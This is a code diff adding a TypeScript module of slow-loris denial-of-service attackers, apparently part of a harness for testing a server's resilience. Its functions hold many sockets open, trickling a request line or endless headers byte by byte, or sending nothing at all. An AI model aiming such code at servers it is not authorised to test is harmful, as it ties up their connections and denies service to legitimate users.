@@ -1,0 +1,45 @@
+import type { Attacker, Means, Outcomes, Target } from "../attack.ts";
+import { addressOf, open, range, reading, settle } from "../client.ts";
+
+/** Opens the connections, and lets each send what a function gives for the next time, one piece a pause. */
+async function trickle(
+  target: Target,
+  means: Means,
+  outcomes: Outcomes,
+  pieceOf: (turn: number) => string,
+): Promise<void> {
+  const clients = range(means.sockets).map((index) => {
+    const socket = open(target, addressOf(index, means));
+    return reading(socket);
+  });
+  let turn = 0;
+  const send = () => {
+    const piece = pieceOf(turn++);
+    for (const { socket } of clients) if (socket.writable) socket.write(piece);
+  };
+  send();
+  const timer = setInterval(send, means.pauseMs);
+  await settle(clients, means, outcomes);
+  clearInterval(timer);
+}
+
+const LINE = "GET /metrics?with=a&query=that&never=ends";
+
+/** Slow-loris: the request line comes byte by byte and never ends. */
+export const slowRequestLine: Attacker = (target, means, outcomes) =>
+  trickle(target, means, outcomes, (turn) => LINE[turn] ?? "x");
+
+/** Slow-loris: a header a pause, and never the last one. */
+export const slowHeaders: Attacker = (target, means, outcomes) =>
+  trickle(target, means, outcomes, (turn) =>
+    turn === 0 ? "GET /metrics HTTP/1.1\r\nHost: x\r\n" : `X-${String(turn)}: x\r\n`,
+  );
+
+/** Connections that send nothing. */
+export const idle: Attacker = async (target, means, outcomes) => {
+  const clients = range(means.sockets).map((index) => {
+    const socket = open(target, addressOf(index, means));
+    return reading(socket);
+  });
+  await settle(clients, means, outcomes);
+};
